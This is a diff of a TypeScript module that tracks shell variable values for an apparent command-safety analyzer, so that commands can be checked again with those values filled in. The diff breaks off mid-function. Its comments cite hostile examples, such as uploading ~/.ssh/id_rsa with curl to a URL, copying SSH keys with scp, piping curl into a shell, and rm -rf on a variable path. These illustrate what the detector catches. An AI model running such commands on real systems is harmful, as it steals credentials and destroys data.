@@ -1,374 +1,379 @@
 /**
- * Variables the line itself gives a value, seen where they are used: `k=~/.ssh/id_rsa; curl -F
- * f=@$k URL` sends what `curl -F f=@~/.ssh/id_rsa URL` sends, `f=~/.bashrc; echo x >> "$f"`
- * writes ~/.bashrc, `for k in ~/.ssh/id_*; do scp "$k" h:; done` copies the keys. A command that
- * uses such a variable is parsed again with the value written in, besides being checked as
- * written, so a known value can only add findings. A variable set more than once (or by a loop)
- * may hold any of its values: each is tried, with and without field splitting where the word does
- * not say which applies.
+ * Variables the line itself gives a value (`k=~/.ssh/id_rsa`, `export`/`declare`/`local`,
+ * `printf -v`, `read … <<<`, `${k:=…}`, arrays, `for` lists, and what a string inherits from the
+ * line that runs it), recorded per parse for value-uses.ts, which parses each command that uses
+ * one again with the value written in. A name may hold several values (branches, loops): all are
+ * kept, and an assignment that surely runs replaces the earlier ones for the commands after it in
+ * its construct (`f=~/.bashrc; { f=/tmp/x; echo >> "$f"; }` writes /tmp/x).
  */
 
 import type { Facts, SimpleCommand, Span, Word } from "../../facts/types.js";
-import type { Nest, Origin, Quiet } from "./types.js";
-import { constructIndex, encloses, subshellAround } from "../tree.js";
-import { globText, literalText } from "./strings.js";
+import { constructIndex, encloses } from "../tree.js";
+import { AnalysisLimitError } from "../limits.js";
 
 /** A piece of a value: 1 its text (split and globbed where used unquoted), 2 a run-time expansion, 3 a glob from a loop list. */
-interface Piece {
+export interface Piece {
   text: string;
   kind: 1 | 2 | 3;
 }
 
 interface Entry {
-  pieces: Piece[];
-  /** Source range of the commands that may see it: after an assignment, inside a loop. */
+  /** null: a value only known at run time (it still replaces the earlier ones). */
+  pieces: Piece[] | null;
+  /** Source range of the commands that may see it. */
   from: number;
   to: number;
-  /** The construct the assignment is in (a later one there replaces it); -2 for a loop's list. */
-  parent: number;
+  /** The construct in which it replaces earlier values (-1: the whole parse); null: it may not run. */
+  scope: number | null;
+  key: string;
+  /** The function it is set in (-1: none): another function's values do not reach a function's commands. */
+  fn: number;
 }
 
 export interface KnownValues {
+  facts: Facts;
   names: Map<string, Entry[]>;
-  /** Commands parsed again so far in this parse, and their characters (both bounded). */
-  reparses: number;
-  chars: number;
   /** Redirects of enclosing statements already parsed again (by their start). */
   outer: Set<number>;
   /** Pipelines already parsed again (by their ordinal). */
   pipelines: Set<number>;
+  /** Characters an IFS set on the line splits on, besides blanks. */
+  ifs: string;
+  /**
+   * Every value the parse gives, wherever (made when it has loops, functions or a trap): a command
+   * in a loop sees what the loop sets after it (the next turn), one in a function or trap string
+   * what is set before the call.
+   */
+  future: KnownValues | null;
+  /** A name that had more values somewhere than are followed (the latest MAX_VALUES are), until reported. */
+  overflow: string | null;
+}
+
+/** Where a command uses variables: its start, its construct, the function it is in (-1: none; run later, from anywhere), the end of the loop around it. */
+export interface Use {
+  at: number;
+  parent: number;
+  fn: number;
+  loopEnd: number;
+}
+
+/** Most values one name is followed with at a use (the latest); past it, shell/untracked-values says so. */
+export const MAX_VALUES = 64;
+const MAX_VALUE_CHARS = 64 * 1024;
+const MAX_PIECES = 4096;
+
+const NAME_EQ = /^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;
+const DECLARERS: ReadonlySet<string> = new Set(["export", "declare", "typeset", "local", "readonly"]);
+/** Command names that can assign a variable (directly, or after builtin/command). */
+const NOTED: ReadonlySet<string> = new Set([...DECLARERS, "env", "printf", "read", "builtin", "command"]);
+const BRANCHING: ReadonlySet<string> = new Set(["if_statement", "case_statement"]);
+const LOOPS: ReadonlySet<string> = new Set(["for_statement", "while_statement", "c_style_for_statement"]);
+/** `for NAME in WORDS; do` / `for NAME in WORDS⏎do` (line continuations joined first). */
+const FOR_HEADER = /^for\s+([A-Za-z_][A-Za-z0-9_]*)\s+in\s+([^;\n]*)[;\n]\s*do\b/;
+/** A word of a list read as text: plain characters after an optional `~` or `$HOME`, quotes around plain text. */
+const PLAIN = /^(?:~|"?\$\{?HOME\}?"?)?(?:[^\s'"`$\\()<>|&;]|"[^"$`\\]*")*$/;
+const HOME_START = /^(?:~|"?\$\{?HOME\}?"?)(?=\/|"|$)/;
+const GLOB = /[*?[]/;
+/** `$x`, `${x}`, `${x[i]}`, `${x<op>…}`: group 1/2 the name, 3 the operator, 4 what follows it. */
+const PARAMETER = /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)(?:\[[^\]]*\])?(?:(:?[-=?+]|%%?|##?|\/\/?|\^\^?|,,?|:|@)([^]*))?\})$/;
+
+export interface Parameter {
+  name: string;
+  /** `${x:-W}`, `${x=W}`: W, what it is when x is unset (and, with `=`, what x becomes). */
+  fallback: string | null;
+  assigns: boolean;
+}
+
+/** The variable a run-time span reads (`${k%.pub}` is judged as k), or null (`${#k}`, `${!k}`, `${k:+alt}`, `$(…)`). */
+export function parameterOf(text: string): Parameter | null {
+  const m = PARAMETER.exec(text);
+  if (m === null) return null;
+  const op = m[3] ?? "";
+  if (op === "+" || op === ":+") return null;
+  const defaulting = op === "-" || op === ":-" || op === "=" || op === ":=";
+  return { name: (m[1] ?? m[2]) as string, fallback: defaulting ? (m[4] as string) : null, assigns: op === "=" || op === ":=" };
+}
+
+const NO_ENTRIES: readonly Entry[] = [];
+export const newValues = (facts: Facts, future: KnownValues | null = null): KnownValues => ({ facts, names: new Map(), outer: new Set(), pipelines: new Set(), ifs: "", future, overflow: null });
+const keyOf = (pieces: Piece[]): string => pieces.map((p) => p.kind + p.text).join("\0");
+
+/** A plain word of a list or a default (`~/.ssh/id_*`, `"$HOME"/.aws`, `build`) as pieces, or null. */
+export function textPieces(raw: string): Piece[] | null {
+  if (!PLAIN.test(raw)) return null;
+  const home = HOME_START.exec(raw);
+  const tail = raw.slice(home === null ? 0 : home[0].length).replace(/"/g, "");
+  const pieces: Piece[] = home === null ? [] : [{ text: "${HOME}", kind: 2 }];
+  if (tail !== "") pieces.push({ text: tail, kind: GLOB.test(tail) ? 3 : 1 });
+  return pieces;
+}
+
+/** Whether a sure assignment in `sc` runs whenever the commands after it in its construct do. */
+function sure(sc: SimpleCommand, facts: Facts): boolean {
+  if (sc.sep === "&&" || sc.sep === "||" || sc.stage >= 0 || sc.background) return false;
+  return sc.parent < 0 || !BRANCHING.has((facts.constructs[sc.parent] as Facts["constructs"][number]).type);
+}
+
+/** Records what `sc` assigns, for the commands after it (and, for `k=v cmd` / `env k=v cmd`, the strings cmd runs). */
+export function noteValues(sc: SimpleCommand, facts: Facts, known: KnownValues | null, defaults = hasDefault(sc)): KnownValues | null {
+  const argv = sc.argv;
+  for (const a of sc.assignments) {
+    const pieces = a.value === null ? [[]] : a.value.dynamic !== null && facts.source.charCodeAt(a.value.start) === 40 /* ( */ ? arrayPieces(facts.source.slice(a.value.start, a.value.end)) : valuePieces(a.value, known, useAt(sc), a.name);
+    // `k=v cmd`: v only reaches what cmd runs (its own words were expanded before).
+    known = argv.length === 0 ? assign(known, facts, sc, a.name, pieces, a.append) : assign(known, facts, sc, a.name, pieces, a.append, sc.start + 1, sc.end);
+  }
+  if (argv.length === 0) return known;
+  if (defaults) known = expansionAssignments(sc, facts, known);
+  // Most commands assign nothing: one look at their name.
+  if (!NOTED.has((argv[0] as Word).value)) return known;
+  let k = 0;
+  while (k < argv.length && argv[k]?.dynamic === null && (argv[k]?.value === "builtin" || argv[k]?.value === "command")) k++;
+  const first = argv[k];
+  if (first === undefined || first.dynamic !== null) return known;
+  if (DECLARERS.has(first.value) || first.value === "env") {
+    const env = first.value === "env";
+    for (let j = k + 1; j < argv.length; j++) {
+      const w = argv[j] as Word;
+      const m = NAME_EQ.exec(w.value);
+      if (m === null || (w.dynamic !== null && (w.dynamic[0] as Span)[0] < m[0].length)) {
+        if (env && !w.value.startsWith("-")) break;
+        continue;
+      }
+      const at = m[0].length;
+      const raw = facts.source.slice(w.start, w.end).slice(at);
+      const value: Word = { ...w, value: w.value.slice(at), tilde: raw.startsWith("~"), dynamic: w.dynamic === null ? null : w.dynamic.map(([s, e]) => [s - at, e - at] as Span) };
+      const pieces = raw.startsWith("(") ? arrayPieces(raw) : valuePieces(value, known, useAt(sc), m[1] as string);
+      known = env ? assign(known, facts, sc, m[1] as string, pieces, false, sc.start + 1, sc.end) : assign(known, facts, sc, m[1] as string, pieces, m[2] === "+");
+    }
+  } else if (first.value === "printf") {
+    // `printf -v k %s VALUE`
+    const v = argv.findIndex((w, j) => j > k && w.value === "-v");
+    const name = argv[v + 1];
+    if (v > 0 && name !== undefined && /^%s$/.test(argv[v + 2]?.value ?? "") && argv[v + 3] !== undefined) known = assign(known, facts, sc, name.value, valuePieces(argv[v + 3] as Word, known, useAt(sc), name.value), false);
+  } else if (first.value === "read") {
+    // `read [-r] k <<< VALUE`: one name takes the whole line.
+    const names = argv.slice(k + 1).filter((w) => !w.value.startsWith("-"));
+    const fed = sc.redirects.find((r) => r.op === "<<<");
+    if (names.length === 1 && fed?.target != null) known = assign(known, facts, sc, (names[0] as Word).value, valuePieces(fed.target, known, useAt(sc), (names[0] as Word).value), false);
+  }
+  return known;
+}
+
+const DEFAULT = /^\$\{[A-Za-z_][A-Za-z0-9_]*:?[-=]/;
+
+/** Whether `sc` writes a default (`"${f:-~/.bashrc}"`): worth a parse again with no value on the line. */
+export function hasDefault(sc: SimpleCommand): boolean {
+  const test = (w: Word | null): boolean => w !== null && w.dynamic !== null && w.value.includes("${") && w.dynamic.some(([s, e]) => DEFAULT.test(w.value.slice(s, e)));
+  for (const w of sc.argv) if (test(w)) return true;
+  for (const r of sc.redirects) if (test(r.target)) return true;
+  return false;
+}
+
+/** `: ${k:=~/.ssh/id_rsa}`: a default that assigns, anywhere in the command's words. */
+function expansionAssignments(sc: SimpleCommand, facts: Facts, known: KnownValues | null): KnownValues | null {
+  for (const w of sc.argv) {
+    for (const [s, e] of w.dynamic ?? []) {
+      if (w.value.indexOf("=", s) < 0 || w.value.indexOf("=", s) >= e) continue;
+      const p = parameterOf(w.value.slice(s, e));
+      const pieces = p !== null && p.assigns && p.fallback !== null ? textPieces(p.fallback) : null;
+      if (pieces !== null && p !== null) known = assign(known, facts, { ...sc, sep: "&&" }, p.name, [pieces], false);
+    }
+  }
+  return known;
+}
+
+/** `a=(~/.ssh/id_rsa x)`: each plain element is a value `$a` / `${a[@]}` may hold. */
+function arrayPieces(raw: string): Piece[][] | null {
+  const inner = raw.replace(/^\(|\)$/g, "").trim();
+  const out: Piece[][] = [];
+  for (const word of inner === "" ? [] : inner.split(/\s+/)) {
+    const p = textPieces(word.replace(/^\[[^\]]*\]=/, ""));
+    if (p !== null) out.push(p);
+  }
+  return out.length === 0 ? null : out;
+}
+
+/** The use `sc` makes of variables (a command in a function runs when it is called: anything set on the line may reach it). */
+export function useAt(sc: SimpleCommand, facts?: Facts): Use {
+  return { at: sc.start, parent: sc.parent, ...(facts === undefined ? NOWHERE : around(facts, sc.parent)) };
+}
+
+const NOWHERE = { fn: -1, loopEnd: -1 };
+
+/** The function around construct `parent` (-1: none), and the end of the innermost loop inside it (-1: none). */
+function around(facts: Facts, parent: number): { fn: number; loopEnd: number } {
+  let loopEnd = -1;
+  for (let k = parent; k >= 0; k = (facts.constructs[k] as Facts["constructs"][number]).parent) {
+    const c = facts.constructs[k] as Facts["constructs"][number];
+    if (c.type === "function_definition") return { fn: k, loopEnd };
+    if (loopEnd < 0 && LOOPS.has(c.type)) loopEnd = c.end;
+  }
+  return { fn: -1, loopEnd };
+}
+
+/** Records `name` = each of `alternatives` (null: only known at run time) for the commands from `from` to `to`. */
+function assign(known: KnownValues | null, facts: Facts, sc: SimpleCommand, name: string, alternatives: Piece[][] | null, append: boolean, from = sc.end, to = Infinity): KnownValues | null {
+  if (alternatives === null && known === null) return null;
+  const k = known ?? newValues(facts);
+  let values = alternatives;
+  if (append) {
+    const before = valuesAt(k, name, useAt(sc), false);
+    values = before === null || values === null ? null : before.flatMap((b) => (values as Piece[][]).map((v) => join(b, v)));
+  }
+  const list = k.names.get(name) ?? [];
+  const scope = to === Infinity && sure(sc, facts) ? sc.parent : null;
+  const fn = around(facts, sc.parent).fn;
+  if (values === null) {
+    if (scope !== null) list.push({ pieces: null, from, to, scope, key: "", fn });
+  } else {
+    for (const pieces of values) list.push({ pieces, from, to, scope, key: keyOf(pieces), fn });
+    if (name === "IFS") for (const p of values) for (const piece of p) if (piece.kind === 1) k.ifs += piece.text.replace(/[ \t\n]/g, "");
+  }
+  k.names.set(name, list);
+  return k;
+}
+
+/** Two values one after the other (`x="$x -F"`), bounded: a value doubled again and again stops the analysis, not the process. */
+export function join(a: Piece[], b: Piece[]): Piece[] {
+  const out = a.slice();
+  let chars = 0;
+  for (const p of b) {
+    const last = out[out.length - 1];
+    if (last !== undefined && last.kind === 1 && p.kind === 1) out[out.length - 1] = { text: last.text + p.text, kind: 1 };
+    else out.push(p);
+  }
+  for (const p of out) chars += p.text.length;
+  if (chars > MAX_VALUE_CHARS || out.length > MAX_PIECES) throw new AnalysisLimitError("maxNestedChars", `a variable's value grows past ${MAX_VALUE_CHARS} characters, the limit`);
+  return out;
 }
 
 /**
- * What a parse with guessed values does not report: the command as written already reports a
- * name or code only known at run time, and a value that makes code unreadable (an approximation:
- * a quote built up over several assignments) says nothing about what runs.
+ * The values `name` may hold at `use`, each once; null when none is known. The latest sure
+ * assignment before the use in a construct around it replaces all before it. `skipEmpty`: an
+ * empty value adds nothing to a command's words (an empty delete target is the deletion check's).
  */
-const QUIET_IDS: ReadonlySet<string> = new Set(["injection/parse-error", "shell/opaque-code", "shell/unsupported-syntax", "shell/dynamic-command", "shell/eval", "sed/unverifiable-script", "dangerous/unknown-arguments"]);
-export const valuesQuiet: Quiet = (id) => QUIET_IDS.has(id);
+export function valuesAt(known: KnownValues, name: string, use: Use, skipEmpty = true): Piece[][] | null {
+  const list = known.names.get(name) ?? NO_ENTRIES;
+  const later = known.future?.names.get(name);
+  if (list.length === 0 && later === undefined) return null;
+  const index = constructIndex(known.facts);
+  let floor = -Infinity;
+  for (const e of list) {
+    if (e.scope !== null && e.from <= use.at && use.at < e.to && e.from > floor && (e.scope < 0 || encloses(index, e.scope, use.parent))) floor = e.from;
+  }
+  const out: Piece[][] = [];
+  const seen = new Set<string>();
+  const take = (e: Entry): void => {
+    if (e.pieces === null || use.at >= e.to || e.from < floor || seen.has(e.key) || (skipEmpty && e.pieces.length === 0) || (use.fn >= 0 && e.fn >= 0 && e.fn !== use.fn)) return;
+    seen.add(e.key);
+    out.push(e.pieces);
+  };
+  for (const e of list) if (e.from <= use.at) take(e);
+  // Set after the use: reaches a command in a function (called later) or a loop (its next turn),
+  // unless something before the use in its construct set the name first.
+  if (later !== undefined && floor === -Infinity && (use.fn >= 0 || use.loopEnd >= 0)) {
+    for (const e of later) if (e.from > use.at && (use.fn >= 0 || e.from < use.loopEnd)) take({ ...e, to: Infinity });
+  }
+  if (out.length > MAX_VALUES) {
+    known.overflow ??= name;
+    return out.slice(-MAX_VALUES);
+  }
+  return out.length === 0 ? null : out;
+}
 
-/** The last values of a name tried at a use; reparses and their characters per parse. */
-const MAX_VARIANTS = 8;
-const MAX_REPARSES = 64;
-const MAX_CHARS = 32 * 1024;
-const MAX_VALUE = 1024;
-/** Nested deeper than this, a use is not parsed again (it would push the line's strings past the depth limit). */
-const MAX_ORIGIN_DEPTH = 2;
-
-const VARIABLE = /^\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))$/;
-const NAME_EQ = /^([A-Za-z_][A-Za-z0-9_]*)=/;
-const DECLARERS: ReadonlySet<string> = new Set(["export", "declare", "typeset", "local", "readonly"]);
-/** `for NAME in WORDS; do` / `for NAME in WORDS⏎do`. */
-const FOR_HEADER = /^for\s+([A-Za-z_][A-Za-z0-9_]*)\s+in\s+([^;\n]*)[;\n]\s*do\b/;
-/** A loop-list word read: plain characters, a leading `~`, `$HOME`, quotes around plain text. */
-const LIST_WORD = /^(?:~|"?\$\{?HOME\}?"?)?[^\s'"`$\\()<>|&;]*$/;
-const GLOB = /[*?[]/;
-const IFS_WHITESPACE = /[ \t\n]+/;
-const SPLITS = /[ \t\n*?[]/;
+/**
+ * An assigned word as pieces, one list per combination of the known variables it uses (`y=$x`);
+ * null when it is all run time (`x=$(cmd)`: nothing to learn from it).
+ */
+export function valuePieces(w: Word, known: KnownValues | null, use: Use, name: string): Piece[][] | null {
+  let anyKnown = w.dynamic === null;
+  let alternatives: Piece[][] = [[]];
+  const addAll = (options: Piece[][]): void => {
+    alternatives = alternatives.flatMap((a) => options.map((o) => join(a, o)));
+    if (alternatives.length > MAX_VALUES) {
+      alternatives = alternatives.slice(-MAX_VALUES);
+      if (known !== null) known.overflow ??= name;
+    }
+  };
+  let pos = 0;
+  if (w.tilde) {
+    const m = /^~([+-]|[A-Za-z0-9_.-]*)(?=\/|$)/.exec(w.value);
+    if (m !== null) {
+      const user = m[1] as string;
+      addAll([[user === "" ? { text: "${HOME}", kind: 2 } : user === "+" ? { text: "${PWD}", kind: 2 } : user === "-" ? { text: "${OLDPWD:?}", kind: 2 } : { text: user === "root" ? "/root" : `/home/${user}`, kind: 1 }]]);
+      anyKnown = true;
+      pos = m[0].length;
+    }
+  }
+  for (const [s, e] of w.dynamic ?? []) {
+    if (s > pos) {
+      addAll([[{ text: w.value.slice(pos, s), kind: 1 }]]);
+      anyKnown = true;
+    }
+    const p = parameterOf(w.value.slice(s, e));
+    const values = p === null || known === null ? null : valuesAt(known, p.name, use, false);
+    if (values !== null) anyKnown = true;
+    addAll(values ?? [[{ text: unknownText(p?.name ?? null), kind: 2 }]]);
+    pos = e;
+  }
+  if (pos < w.value.length) {
+    addAll([[{ text: w.value.slice(pos), kind: 1 }]]);
+    anyKnown = true;
+  }
+  return anyKnown ? alternatives : null;
+}
 
 /**
  * A part still unknown with the values in, written `${X:?}`: never empty, so the parse again does
  * not repeat what the command as written says about an empty variable (`rm -rf "$D/"`). HOME and
  * PWD stay as they are: the checks read them as the directories they are.
  */
-const unknown = (name: string | null): string => (name === "HOME" || name === "PWD" ? `\${${name}}` : `\${${name ?? "__dynamic"}:?}`);
-const quote = (s: string): string => literalText(s) || "''";
-const add = (known: KnownValues | null): KnownValues => known ?? { names: new Map(), reparses: 0, chars: 0, outer: new Set(), pipelines: new Set() };
-
-/** Records what `sc` assigns (`x=v`, `export x=v`, `local x=v`) for the commands after it. */
-export function noteValues(sc: SimpleCommand, facts: Facts, known: KnownValues | null): KnownValues | null {
-  const first = sc.argv[0];
-  if (first === undefined) {
-    for (const a of sc.assignments) known = assign(known, a.name, a.value, a.append, sc, facts);
-    return known;
-  }
-  if (first.dynamic !== null || !DECLARERS.has(first.value)) return known;
-  for (let k = 1; k < sc.argv.length; k++) {
-    const w = sc.argv[k] as Word;
-    const m = NAME_EQ.exec(w.value);
-    if (m === null || (w.dynamic !== null && (w.dynamic[0] as Span)[0] < m[0].length)) continue;
-    const at = m[0].length;
-    const rawValue = facts.source.slice(w.start, w.end).slice(at);
-    // `declare -a x=(…)`: an array, not one value.
-    if (rawValue.startsWith("(")) continue;
-    const value: Word = { value: w.value.slice(at), start: w.start, end: w.end, quoted: w.quoted, glob: w.glob, tilde: rawValue.startsWith("~"), dynamic: w.dynamic === null ? null : w.dynamic.map(([s, e]) => [s - at, e - at] as Span) };
-    known = assign(known, m[1] as string, value, false, sc, facts);
-  }
-  return known;
+export function unknownText(name: string | null): string {
+  return name === "HOME" || name === "PWD" ? `\${${name}}` : `\${${name ?? "__dynamic"}:?}`;
 }
 
-/**
- * Records `name` = `value` after `sc`. A later assignment in the same construct replaces the
- * earlier ones (`x=/etc; x=$(mktemp)` leaves x unknown); one in a branch, or after `&&`, adds to them.
- */
-function assign(known: KnownValues | null, name: string, value: Word | null, append: boolean, sc: SimpleCommand, facts: Facts): KnownValues | null {
-  const at = sc.start;
-  const alternatives = value === null ? [[]] : value.value.length > MAX_VALUE ? null : valuePieces(value, known, at);
-  const before = append ? entriesAt(known, name, at, false) : null;
-  let list = known?.names.get(name);
-  // Only an assignment that surely runs replaces: not `false && x=a`, not one in a pipeline or the background.
-  // An if or case holds its branches under one construct: an assignment there replaces nothing.
-  const branches = sc.parent >= 0 && BRANCHING.has((facts.constructs[sc.parent] as Facts["constructs"][number]).type);
-  const sure = sc.sep !== "&&" && sc.sep !== "||" && sc.stage < 0 && !sc.background && !branches;
-  if (list !== undefined && sure) list = list.filter((e) => e.parent !== sc.parent || e.to !== Infinity);
-  if (alternatives !== null && !(append && before === null)) {
-    list ??= [];
-    for (const pieces of alternatives) {
-      if (before === null) list.push({ pieces, from: sc.end, to: Infinity, parent: sc.parent });
-      else for (const b of before) list.push({ pieces: [...b, ...pieces], from: sc.end, to: Infinity, parent: sc.parent });
-    }
-  }
-  if (list === undefined) return known;
-  const k = add(known);
-  k.names.set(name, list.length > MAX_VARIANTS * 2 ? list.slice(-MAX_VARIANTS * 2) : list);
-  return k;
-}
-
-/**
- * The values `name` may hold at `at`, the latest last; null when none is known. `use`: for a
- * command's words, where an empty value adds nothing (an empty variable in a delete target is the
- * deletion check's own case); building a value, `x=; x="$x -F …"` needs it.
- */
-function entriesAt(known: KnownValues | null, name: string, at: number, use = true): Piece[][] | null {
-  const list = known?.names.get(name);
-  if (list === undefined) return null;
-  const out: Piece[][] = [];
-  for (const e of list) if (e.from <= at && at < e.to && !(use && e.pieces.length === 0)) out.push(e.pieces);
-  return out.length === 0 ? null : out.length > MAX_VARIANTS ? out.slice(-MAX_VARIANTS) : out;
-}
-
-/**
- * An assigned word as pieces, one list per combination of the known variables it uses (`y=$x`
- * with x known); null when the value is all run time (`x=$(cmd)`: nothing to learn from it).
- */
-function valuePieces(w: Word, known: KnownValues | null, at: number): Piece[][] | null {
-  const out: Piece[][] = [];
-  let anyKnown = w.dynamic === null;
-  for (let v = 0; v < MAX_VARIANTS; v++) {
-    const pieces: Piece[] = [];
-    let rest = w.value;
-    let offset = 0;
-    if (w.tilde) {
-      const m = /^~([+-]|[A-Za-z0-9_.-]*)(?=\/|$)/.exec(rest);
-      if (m !== null) {
-        const user = m[1] as string;
-        pieces.push(user === "" ? { text: "${HOME}", kind: 2 } : user === "+" ? { text: "${PWD}", kind: 2 } : user === "-" ? { text: unknown("OLDPWD"), kind: 2 } : { text: user === "root" ? "/root" : `/home/${user}`, kind: 1 });
-        anyKnown = true;
-        offset = m[0].length;
-        rest = rest.slice(offset);
-      }
-    }
-    let more = false;
-    let pos = offset;
-    for (const [s, e] of w.dynamic ?? []) {
-      if (s > pos) {
-        pieces.push({ text: w.value.slice(pos, s), kind: 1 });
-        anyKnown = true;
-      }
-      const text = w.value.slice(s, e);
-      const m = VARIABLE.exec(text);
-      const name = m === null ? null : ((m[1] ?? m[2]) as string);
-      const values = name === null ? null : entriesAt(known, name, at, false);
-      if (values !== null) {
-        anyKnown = true;
-        more ||= v + 1 < values.length;
-        pieces.push(...(values[values.length - 1 - Math.min(v, values.length - 1)] as Piece[]));
-      } else pieces.push({ text: unknown(name), kind: 2 });
-      pos = e;
-    }
-    if (pos < w.value.length) {
-      pieces.push({ text: w.value.slice(pos), kind: 1 });
-      anyKnown = true;
-    }
-    out.push(pieces);
-    if (!more) break;
-  }
-  return anyKnown ? out : null;
-}
-
-/** Records the plain lists of `for` loops (`for k in ~/.ssh/id_*`), for the commands inside each. */
+/** Records the lists of `for` loops (`for k in ~/.ssh/id_*`): inside each (replacing outer values) and after it. */
 export function loopValues(facts: Facts, known: KnownValues | null): KnownValues | null {
-  for (const c of facts.constructs) {
+  for (let i = 0; i < facts.constructs.length; i++) {
+    const c = facts.constructs[i] as Facts["constructs"][number];
     if (c.type !== "for_statement") continue;
-    const h = FOR_HEADER.exec(facts.source.slice(c.start, c.end));
+    const h = FOR_HEADER.exec(facts.source.slice(c.start, c.end).replace(/\\\n/g, "  "));
     if (h === null) continue;
     const words = (h[2] as string).split(/\s+/).filter((x) => x !== "");
-    if (words.length === 0 || words.length > MAX_VARIANTS || !words.every((x) => LIST_WORD.test(x))) continue;
-    const k = (known = add(known));
+    const values = words.map(textPieces).filter((p): p is Piece[] => p !== null);
+    if (values.length === 0) continue;
+    const k = (known ??= newValues(facts));
     const list = k.names.get(h[1] as string) ?? [];
-    for (const word of words) {
-      const home = /^(?:~|"?\$\{?HOME\}?"?)(?=\/|$)/.exec(word);
-      const tail = word.slice(home === null ? 0 : home[0].length).replace(/"/g, "");
-      const pieces: Piece[] = home === null ? [] : [{ text: "${HOME}", kind: 2 }];
-      if (tail !== "") pieces.push({ text: tail, kind: GLOB.test(tail) ? 3 : 1 });
-      list.push({ pieces, from: c.start + h[0].length, to: c.end, parent: -2 });
+    const fn = around(facts, c.parent).fn;
+    for (const pieces of values) {
+      const key = keyOf(pieces);
+      list.push({ pieces, from: c.start + h[0].length, to: c.end, scope: i, key, fn });
+      list.push({ pieces, from: c.end, to: Infinity, scope: null, key, fn });
     }
     k.names.set(h[1] as string, list);
   }
   return known;
 }
 
-/**
- * Parses `sc` again once per combination of the known values it uses (none: nothing happens).
- * A command with a heredoc is left as written (its body cannot be carried into one line).
- */
-export function withValues(sc: SimpleCommand, facts: Facts, known: KnownValues, origin: Origin, nest: Nest): void {
-  // Assignments alone run nothing (their values were followed when they were recorded).
-  if (sc.argv.length === 0 || origin.depth > MAX_ORIGIN_DEPTH || known.reparses >= MAX_REPARSES) return;
-  // A name still partly unknown with the values in would only repeat shell/dynamic-command.
-  const name = sc.argv[0] as Word;
-  if (name.dynamic !== null && !fullyKnown(name, known, sc.start)) return;
-  let uses = 0;
-  let ambiguous = false;
-  const count = (w: Word | null): void => {
-    if (w === null || w.dynamic === null) return;
-    const n = variants(w, known, sc.start);
-    if (n > 0) {
-      uses = Math.max(uses, n);
-      // Inside double quotes a value is one word; outside, it is split and globbed: a word with
-      // both kinds of quoting could be either at the variable.
-      if (w.quoted && facts.source.slice(w.start, w.end).includes('"') && splits(w, known, sc.start)) ambiguous = true;
+/** What a string run at `at` inherits: every value a name may still hold (a trap string runs later). */
+export function snapshot(known: KnownValues, at: number): ReadonlyMap<string, Piece[][]> | undefined {
+  let out: Map<string, Piece[][]> | undefined;
+  for (const [name, list] of (known.future ?? known).names) {
+    const values: Piece[][] = [];
+    const seen = new Set<string>();
+    for (const e of list) {
+      if (e.pieces === null || e.to <= at || seen.has(e.key)) continue;
+      seen.add(e.key);
+      values.push(e.pieces);
     }
-  };
-  for (const a of sc.assignments) count(a.value);
-  for (const w of sc.argv) count(w);
-  for (const r of sc.redirects) {
-    if (r.op === "<<" || r.op === "<<-") return;
-    // A redirect of the statement around (`while …; done < "$f"`, `{ …; } >> "$f"`) is parsed
-    // again with the first command it applies to, not with each.
-    if (r.start < sc.start || r.end > sc.end) {
-      if (known.outer.has(r.start)) continue;
-      if (r.target !== null && r.target.dynamic !== null && variants(r.target, known, sc.start) > 0) known.outer.add(r.start);
-    }
-    count(r.target);
+    if (values.length > 0) (out ??= new Map()).set(name, values.slice(-MAX_VALUES));
   }
-  if (uses === 0) return;
-  // A stage is parsed again with its whole pipeline: `curl … | $sh` pipes into a shell.
-  const stages = sc.stage >= 0 ? pipelineOf(sc, facts) : [sc];
-  if (sc.stage >= 0) {
-    if (known.pipelines.has(sc.pipeline)) return;
-    known.pipelines.add(sc.pipeline);
-  }
-  const range: [number, number] = origin.range ?? [(stages[0] as SimpleCommand).start, (stages[stages.length - 1] as SimpleCommand).end];
-  const moves = movesBefore(sc, facts);
-  let last = "";
-  for (let v = 0; v < uses; v++) {
-    for (const split of ambiguous ? [false, true] : [null]) {
-      if (known.reparses >= MAX_REPARSES || known.chars >= MAX_CHARS) return;
-      const text = moves + stages.map((c) => rewrite(c, facts, known, v, split, sc.start)).join(" | ");
-      if (text === last) continue;
-      last = text;
-      known.reparses++;
-      known.chars += text.length;
-      nest(text, range, { ...origin, speculative: valuesQuiet });
-    }
-  }
+  return out;
 }
 
-const BRANCHING: ReadonlySet<string> = new Set(["if_statement", "case_statement"]);
-const MOVES: ReadonlySet<string> = new Set(["cd", "pushd", "popd"]);
-/** At most this many of the cds before a command are carried into its parse again (the last ones). */
-const MAX_MOVES = 4;
-
-/**
- * The cds that reach `sc` (before it, outside any subshell it is not in), as text to run first:
- * `cd intl && for f in *; do rm -rf "$f"; done` deletes in intl, not here.
- */
-function movesBefore(sc: SimpleCommand, facts: Facts): string {
-  let out: string[] | null = null;
-  for (const c of facts.commands) {
-    if (c.end > sc.start) break;
-    const first = c.argv[0];
-    if (first === undefined || first.dynamic !== null || !MOVES.has(first.value)) continue;
-    const index = constructIndex(facts);
-    if (!encloses(index, subshellAround(index, c.parent), sc.parent)) continue;
-    (out ??= []).push(facts.source.slice(c.start, c.end));
-  }
-  return out === null ? "" : out.slice(-MAX_MOVES).join("; ") + "; ";
-}
-
-/** The stages of the pipeline `sc` is in, in order. */
-function pipelineOf(sc: SimpleCommand, facts: Facts): SimpleCommand[] {
-  const out: SimpleCommand[] = [];
-  for (const c of facts.commands) if (c.pipeline === sc.pipeline && c.stage >= 0) out[c.stage] = c;
-  return out.filter((c) => c !== undefined);
-}
-
-/** Every dynamic part of `w` is a known variable whose values are all text. */
-function fullyKnown(w: Word, known: KnownValues, at: number): boolean {
-  for (const [s, e] of w.dynamic ?? []) {
-    const m = VARIABLE.exec(w.value.slice(s, e));
-    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
-    if (values === null || values.some((pieces) => pieces.some((p) => p.kind === 2))) return false;
-  }
-  return true;
-}
-
-/** Some value of a known variable in `w` has whitespace or a glob character (quoting then matters). */
-function splits(w: Word, known: KnownValues, at: number): boolean {
-  for (const [s, e] of w.dynamic ?? []) {
